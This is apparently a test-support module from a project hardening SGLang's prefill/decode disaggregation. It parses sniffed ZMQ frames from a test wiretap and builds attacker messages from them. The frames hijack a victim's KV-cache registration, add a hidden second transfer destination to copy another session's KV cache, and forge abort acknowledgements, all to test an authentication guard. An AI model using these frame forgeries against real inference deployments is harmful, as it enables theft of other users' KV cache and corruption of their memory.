"""The ZMQ side-channel attacks of issue 39 as test material: what an observer of a PD pair sees on its side
channels, and the frames an attacker without the deployment's secret sends, cloned from what it saw.

What is seen comes from the test-only ``wiretap`` shim (``WIRETAP_ENV`` in a server's environment, vanilla or
hardened): each KV manager's rank port (what a port scan finds) and every message a server process sends to a
``tcp://`` endpoint, frame by frame (what a sniffer on the path reads). A hardened sender's messages end with the
auth frame; :class:`Sent` keeps it apart, and an attacker who clones a message drops it (it cannot sign).

Mooncake's frames (decode to prefill, 0.5.19 .. 0.5.23; ``/work/notes`` research, section 2.1):

- registration ``[b"None", ip, port, session, kv_ptrs Q*, aux_ptrs Q*, state_ptrs, tp_rank, attn_tp_size,
  kv_item_len, ...]`` (0.5.23 adds frame 19, one item length per KV buffer): where prefill writes a session's KV;
  the newest registration of a session id replaces the others, whoever sent it;
- transfer info ``[room, ip, port, session, kv_indices i32*, aux_index, state_indices, required_dst_info_num,
  ...]``: one destination of a room (pages of the session's buffers), its statuses go to ``ip:port``; prefill
  writes every chunk of the room to each destination it holds;
- abort ``[b"ABORT", room, decode_ip, decode_port(, generation)]`` and, back from prefill, the drain ack
  ``[b"ABORT_ACK", room, prefill_rank(, generation)]`` (the generation from 0.5.22 on).

Before 0.5.18 (0.4.x, 0.5.10.post1) SGLang has neither: a patched tree's page-lifecycle patch sends its own
``[b"SGH_ABORT", room, decode_ip, decode_port]`` and ``[b"SGH_ABORT_ACK", room, prefill_rank]``. 0.4.x's registration
has no state frame (9 frames, the item length last) and its transfer info ends at ``required_dst_info_num`` (frame 6).

NIXL's registrations and transfer infos start with a guard frame (``NixlMsgGuard``); after it, a registration is
``[b"None", ip, port, agent_name, agent_metadata, kv_ptrs Q*, aux_ptrs Q*, state_ptrs, gpu_id, tp_size, tp_rank,
kv_item_len, ..., dst_num_slots (16), kv_mem_kinds (17), kv_item_lens Q* (18), ...]`` (the first registration
of an agent name wins) and a transfer info ``[room, ip, port, agent_name, kv_indices i32*, aux_index,
required_dst_info_num, ...]``; aborts and drain acks are Mooncake's.
"""

from __future__ import annotations

import struct
import time
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from sglang_harden.guards import zmq_auth
from sglang_harden.guards.bootstrap_auth import parse_secrets
from sglang_harden.testbed import jsonl

WIRETAP_ENV = "SGLANG_HARDEN_TESTBED_WIRETAP_DIR"
LOOPBACK = "127.0.0.1"
REGISTRATION = b"None"
ABORT = b"ABORT"
ABORT_ACK = b"ABORT_ACK"
OWN_ABORT = b"SGH_ABORT"  # the page-lifecycle patch's, before 0.5.18
OWN_ABORT_ACK = b"SGH_ABORT_ACK"
REGISTRATION_049_FRAMES = 9
TRANSFER_INFO_049_FRAMES = 7
NIXL_GUARD = b"NixlMsgGuard"

Frames = Sequence[bytes]


@dataclass(frozen=True)
class Sent:
    """One message a server process sent: its own frames, and its auth frame (None: unsigned)."""

    pid: int
    to: str
    frames: tuple[bytes, ...]
    auth: bytes | None


class Tap:
    """The wiretap shim's lines of one pair (both servers write into ``folder``)."""

    def __init__(self, folder: Path) -> None:
        self.folder = Path(folder)

    def _events(self) -> list[dict[str, Any]]:
        return jsonl.read_folder(self.folder, "wiretap-", live=True)

    def rank_ports(self) -> dict[str, tuple[int, str]]:
        """Role -> (pid of the process that bound it, ``tcp://ip:port``): the newest rank port of each role."""
        ports: dict[str, tuple[int, str]] = {}
        for event in self._events():
            if event.get("event") == "rank_port":
                ports[str(event["role"]).lower()] = (int(event["pid"]), f"tcp://{event['ip']}:{event['port']}")
        return ports

    def endpoint(self, role: str) -> str:
        ports = self.rank_ports()
        if role not in ports:
            raise AssertionError(f"the tap saw no {role} rank port in {self.folder} (wiretap shim not armed?)")
        return ports[role][1]

    def messages(self, sender: str, receiver: str) -> list[Sent]:
        """What the ``sender`` role's process sent to the ``receiver`` role's rank port, oldest first."""
        ports = self.rank_ports()
        if sender not in ports or receiver not in ports:
            return []
        pid, to = ports[sender][0], ports[receiver][1]
        out = []
        for event in self._events():
            if event.get("event") == "sent" and int(event["pid"]) == pid and event["to"] == to:
                own, auth = zmq_auth.split([bytes.fromhex(frame) for frame in event["frames"]])
                out.append(Sent(pid, to, tuple(own), auth))
        return out

    def wait(self, sender: str, receiver: str, match: Callable[[Frames], bool], what: str,
             timeout: float = 60.0) -> Sent:
        """The newest message ``sender`` sent to ``receiver``'s rank port that ``match``es, once there is one."""
        deadline = time.monotonic() + timeout
        while True:
            found = [sent for sent in self.messages(sender, receiver) if match(sent.frames)]
            if found:
                return found[-1]
            if time.monotonic() > deadline:
                raise AssertionError(f"the tap saw no {what} from {sender} to {receiver} within {timeout:.0f} s")
            time.sleep(0.05)


def _unguarded(frames: Frames) -> Frames:
    """A NIXL message without its guard frame (a Mooncake message as it is)."""
    return frames[1:] if frames and frames[0] == NIXL_GUARD else frames


def is_registration(frames: Frames) -> bool:
    own = _unguarded(frames)
    return len(own) >= REGISTRATION_049_FRAMES and own[0] == REGISTRATION


def is_transfer_info(room: int) -> Callable[[Frames], bool]:
    return lambda frames: len(_unguarded(frames)) > 6 and _unguarded(frames)[0] == str(room).encode()


def is_abort(room: int) -> Callable[[Frames], bool]:
    return lambda frames: len(frames) >= 2 and frames[0] in (ABORT, OWN_ABORT) and frames[1] == str(room).encode()


def _unpack(frame: bytes, code: str) -> list[int]:
    return list(struct.unpack(f"{len(frame) // struct.calcsize(code)}{code}", frame))


def _pack(values: Iterable[int], code: str) -> bytes:
    values = list(values)
    return struct.pack(f"{len(values)}{code}", *values)


@dataclass(frozen=True)
class Layout:
    """A decode's KV layout as its registration shows it: one item length (bytes of one page) per KV buffer,
    and how many aux buffers it has."""

    item_lens: tuple[int, ...]
    aux_buffers: int

    @classmethod
    def of(cls, registration: Frames) -> Layout:
        if registration[0] == NIXL_GUARD:
            own = registration[1:]
            entries = len(own[5]) // 8
            per_entry = _unpack(own[18], "Q") if len(own) > 18 and own[18] else [int(own[11])] * entries
            return cls(tuple(per_entry), len(own[6]) // 8)
        entries = len(registration[4]) // 8
        if len(registration) == REGISTRATION_049_FRAMES:  # 0.4.x: no state frame, one length for every buffer
            return cls((int(registration[8]),) * entries, len(registration[5]) // 8)
        per_entry = _unpack(registration[19], "Q") if len(registration) > 19 else []
        if len(per_entry) != entries:  # before 0.5.23: one length for every buffer (frame 9)
            per_entry = [int(registration[9])] * entries
        return cls(tuple(per_entry), len(registration[5]) // 8)


def hijack_registration(victim: Frames, shift: Callable[[int], int]) -> list[bytes]:
    """The victim decode's own registration (same session id, address and layout) with each KV pointer moved by
    ``shift(item_len)`` bytes: prefill then writes every room of that session off its pages."""
    frames = list(victim)
    layout = Layout.of(victim)
    ptrs = _unpack(frames[4], "Q")
    frames[4] = _pack((ptr + shift(item) for ptr, item in zip(ptrs, layout.item_lens, strict=True)), "Q")
    return frames


@dataclass(frozen=True)
class Destination:
    """The attacker's own Mooncake engine as a destination of ``pages`` pages per KV buffer: KV buffer ``i``
    at ``base + kv_offsets[i]``, aux buffer ``j`` at ``base + kv_bytes + j * aux_slot``."""

    session: str
    base: int
    layout: Layout
    pages: int
    aux_slot: int = 1 << 16

    @staticmethod
    def size(layout: Layout, pages: int, aux_slot: int = 1 << 16) -> int:
        return sum(layout.item_lens) * pages + layout.aux_buffers * aux_slot

    @property
    def kv_bytes(self) -> int:
        return sum(self.layout.item_lens) * self.pages

    def kv_ptrs(self) -> list[int]:
        offsets, at = [], 0
        for item in self.layout.item_lens:
            offsets.append(self.base + at)
            at += item * self.pages
        return offsets

    def aux_ptrs(self) -> list[int]:
        return [self.base + self.kv_bytes + j * self.aux_slot for j in range(self.layout.aux_buffers)]


def copy_registration(victim: Frames, dest: Destination, status_port: int) -> list[bytes]:
    """The victim's registration with the attacker's session, status address and buffers (its layout kept)."""
    frames = list(victim)
    frames[1:4] = [LOOPBACK.encode(), str(status_port).encode(), dest.session.encode()]
    frames[4] = _pack(dest.kv_ptrs(), "Q")
    frames[5] = _pack(dest.aux_ptrs(), "Q")
    return frames


def copy_transfer_info(victim: Frames, dest: Destination, status_port: int) -> list[bytes]:
    """The victim's transfer info for its room as a second destination: the attacker's session and pages
    ``0..pages-1``, aux slot 0, and ``required_dst_info_num`` one more than the victim's, so that the victim's
    transfer still concludes when its own destination is written (it sees nothing)."""
    frames = list(victim)
    frames[1:4] = [LOOPBACK.encode(), str(status_port).encode(), dest.session.encode()]
    frames[4] = _pack(range(dest.pages), "i")
    frames[5] = b"0"
    required = 6 if len(victim) == TRANSFER_INFO_049_FRAMES else 7
    frames[required] = str(int(victim[required]) + 1).encode()
    if len(frames) > 9 and frames[9]:
        frames[9] = _pack(range(dest.pages), "i")
    return frames


def nixl_copy_registration(victim: Frames, dest: Destination, metadata: bytes, status_port: int) -> list[bytes]:
    """NIXL: the victim's registration with the attacker's agent (name ``dest.session``, its ``metadata``),
    status address and host buffers, ``dest.pages`` slots per KV buffer (its layout kept)."""
    frames = list(victim)
    frames[2:6] = [LOOPBACK.encode(), str(status_port).encode(), dest.session.encode(), metadata]
    frames[6] = _pack(dest.kv_ptrs(), "Q")
    frames[7] = _pack(dest.aux_ptrs(), "Q")
    frames[9] = b"0"  # gpu id: host memory is device 0
    if len(frames) > 18:
        frames[17] = str(dest.pages).encode()  # dst_num_slots
        frames[18] = ",".join(["DRAM"] * len(dest.layout.item_lens)).encode()
    return frames


def nixl_copy_transfer_info(victim: Frames, dest: Destination, status_port: int) -> list[bytes]:
    """NIXL: :func:`copy_transfer_info` for the attacker's agent."""
    frames = list(victim)
    frames[2:5] = [LOOPBACK.encode(), str(status_port).encode(), dest.session.encode()]
    frames[5] = _pack(range(dest.pages), "i")
    frames[6] = b"0"
    frames[7] = str(int(victim[7]) + 1).encode()
    return frames


def pages_of(transfer_info: Frames) -> int:
    return len(_unguarded(transfer_info)[4]) // 4


def forged_drain_acks(room: int, abort: Frames, ranks: Iterable[int] = (0, 1),
                      generations: Iterable[int] = range(1, 9)) -> list[list[bytes]]:
    """Drain acks for ``room`` from each rank in ``ranks``: with a generation (each of ``generations`` and the one
    the sniffed ``abort`` carried) where decode's abort carries one (0.5.22+), else without; the page-lifecycle
    patch's own ack where the abort is its own (before 0.5.18)."""
    if abort and abort[0] == OWN_ABORT:
        return [[OWN_ABORT_ACK, str(room).encode(), str(rank).encode()] for rank in ranks]
    head = [ABORT_ACK, str(room).encode()]
    if len(abort) < 5:
        return [[*head, str(rank).encode()] for rank in ranks]
    wanted = sorted({*generations, int(abort[4])})
    return [[*head, str(rank).encode(), str(gen).encode()] for rank in ranks for gen in wanted]


def signed(secret_text: str, frames: Frames, destination: str) -> list[bytes]:
    """``frames`` as a holder of the deployment's secret sends them to ``destination`` (a rank port)."""
    auth = zmq_auth.Signer().sign(parse_secrets(secret_text), list(frames), destination)
    return [*frames, auth]
